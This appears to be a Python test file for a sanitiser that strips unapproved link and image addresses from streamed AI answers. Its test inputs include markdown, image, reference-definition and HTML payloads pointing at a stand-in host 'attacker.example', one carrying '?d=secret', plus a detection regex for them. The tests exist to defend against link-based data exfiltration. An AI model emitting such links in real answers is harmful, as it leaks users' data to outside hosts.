"""A streamed answer's unclosed ``[`` holds back only a bounded stretch of text, and a bracket
sent before it closed still loses an address the notes did not give when it closes into a link;
a removed tag takes its closing tag along. Streamed or not, the text is the same."""

from __future__ import annotations

import random
import re

import pytest
from markdown_it import MarkdownIt

from knotwork.answer.cite import check_citations
from knotwork.answer.links import AnswerStream, LinkStream, inert_links
from tests.conftest import hit

ATTACKER = "attacker.example"
GIVEN = "<<<BEGIN t [S1] note People/Alice.md>>>\nThe wiki: https://wiki.example/a.\n<<<END t>>>"
ALICE = hit("People/Alice.md", "Alice")
SOURCES = {1: ALICE}
COMMONMARK = MarkdownIt("commonmark")
_FOLLOWED = re.compile(r"""(?:href|src)="[^"]*attacker|[a-z]+://attacker|www\.attacker""")
PARAGRAPH = "and then a long paragraph that goes on " * 8  # 312 characters, no "]", no line end


def _streamed(text: str, given: str = GIVEN) -> tuple[list[str], str]:
    """What a stream fed ``text`` a character at a time sends at each feed, and in all."""
    stream = LinkStream(given)
    sent = [stream.feed(char) for char in text]
    sent.append(stream.close())
    return sent, "".join(sent)


@pytest.mark.parametrize("opening", ["See [1 ", "Index array[i ", "Photo ![the team "])
def test_an_unclosed_bracket_does_not_hold_its_paragraph(opening: str) -> None:
    text = opening + PARAGRAPH
    sent, whole = _streamed(text)
    before_close = "".join(sent[:-1])
    # All but a bounded tail went out before the answer ended.
    assert len(before_close) > len(text) - 100, before_close
    assert whole == inert_links(text, GIVEN).text
    assert whole.startswith(opening.replace("![", "! [").rstrip())


def test_a_line_end_inside_brackets_sends_the_line() -> None:
    stream = LinkStream(GIVEN)
    assert stream.feed("The index array[i\nand the next ") == "The index array[i\nand the"


@pytest.mark.parametrize(
    ("closing", "address"),
    [
        ("](https://attacker.example/x?d=secret)", ""),
        ("](//attacker.example/x 'title')", ""),
        ("](<//attacker.example/x y>)", ""),
        ("](https://wiki.example/a)", "(https://wiki.example/a)"),
    ],
)
def test_a_bracket_sent_open_still_loses_an_address_not_given(closing: str, address: str) -> None:
    text = f"See [1 {PARAGRAPH}{closing} end."
    whole = _streamed(text)[1]
    assert ATTACKER not in whole
    assert whole == f"See [1 {PARAGRAPH}]{address} end."
    assert whole == inert_links(text, GIVEN).text
    assert inert_links(text, GIVEN).links == (0 if address else 1)


def test_an_image_sent_open_never_becomes_an_image() -> None:
    text = f"Photo ![the team {PARAGRAPH}](https://wiki.example/a) here"
    unlinked = inert_links(text, GIVEN)
    assert unlinked.text == f"Photo ! [the team {PARAGRAPH}] here"
    assert (unlinked.images, unlinked.links) == (1, 0)
    assert _streamed(text)[1] == unlinked.text


def test_a_definition_sent_open_defines_nothing() -> None:
    """Its label went out before its address came: the ":" goes, the address is mere text."""
    text = f"See [r].\n[r {PARAGRAPH}]: //attacker.example/r\nmore"
    unlinked = inert_links(text, GIVEN)
    assert unlinked.text == f"See [r].\n[r {PARAGRAPH}] //attacker.example/r\nmore"
    assert "href" not in COMMONMARK.render(unlinked.text)
    assert _streamed(text)[1] == unlinked.text


@pytest.mark.parametrize(
    "raw",
    [
        "[a [b [c]] d](//attacker.example/p) deep brackets",
        "[x]( //attacker.example/s 'title') a space first",
        "[x](//attacker.example/((p))) parentheses in the address",
        "[`]`](//attacker.example/q) a bracket a code span hides",
        "![a](//attacker.example/((p)).png) an image",
    ],
)
def test_an_address_is_read_as_a_renderer_reads_it(raw: str) -> None:
    assert _FOLLOWED.search(COMMONMARK.render(raw))  # a live address, as written
    unlinked = inert_links(raw, GIVEN)
    assert ATTACKER not in unlinked.text
    assert unlinked.links + unlinked.images == 1
    assert _streamed(raw)[1] == unlinked.text


def test_a_line_opening_with_a_closed_bracket_is_not_held() -> None:
    stream = LinkStream(GIVEN)
    assert stream.feed("[People/Alice.md#Alice] works at Acme and") == (
        "[People/Alice.md#Alice] works at Acme"
    )


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ('<a href="https://attacker.example/">here</a>', "here"),
        ('<span style="background:url(//attacker.example/p)">s</span> end', "s end"),
        ('<b>bold <A HREF="//attacker.example">x</A></b>', "<b>bold x</b>"),
        ('<span style="x"><span>inner</span> out</span>', "<span>inner</span> out"),
        ('<a href="https://wiki.example/a">w</a> <a href="//attacker.example">x</a>', None),
        ("</a> alone stays", "</a> alone stays"),
    ],
)
def test_a_removed_tag_takes_its_closing_tag(raw: str, text: str | None) -> None:
    unlinked = inert_links(raw, GIVEN)
    expected = '<a href="https://wiki.example/a">w</a> x' if text is None else text
    assert unlinked.text == expected
    assert _streamed(raw)[1] == expected


WORDS = [
    "Alice [S1] ",
    "[open ",
    "![pic ",
    "array[i ",
    "] ",
    "](//attacker.example/q) ",
    "](https://wiki.example/a) ",
    "]: //attacker.example/d ",
    "\n[",
    "words and more words to fill a paragraph ",
    "\n",
    "\n\n",
    '<a href="//attacker.example/t">',
    "</a> ",
    "<b>",
    "</b> ",
    "https://attacker.example/b ",
]


def test_a_stream_cut_anywhere_sends_what_the_whole_answer_gives_brackets_open() -> None:
    rng = random.Random(3)
    for _ in range(600):
        raw = "".join(rng.choice(WORDS) for _ in range(rng.randint(1, 30)))
        cuts = sorted(rng.sample(range(len(raw) + 1), min(5, len(raw) + 1)))
        pieces = [raw[a:b] for a, b in zip([0, *cuts], [*cuts, len(raw)], strict=True)]
        stream = AnswerStream([ALICE], SOURCES, GIVEN)
        sent = "".join([*(stream.feed(piece) for piece in pieces), stream.close()])
        whole = inert_links(check_citations(raw, [ALICE], SOURCES, GIVEN).text, GIVEN).text
        assert sent == whole, (raw, pieces)
        # Plain text may name the host; nothing a renderer fetches or follows does.
        assert not _FOLLOWED.search(COMMONMARK.render(sent) + sent), (raw, sent)
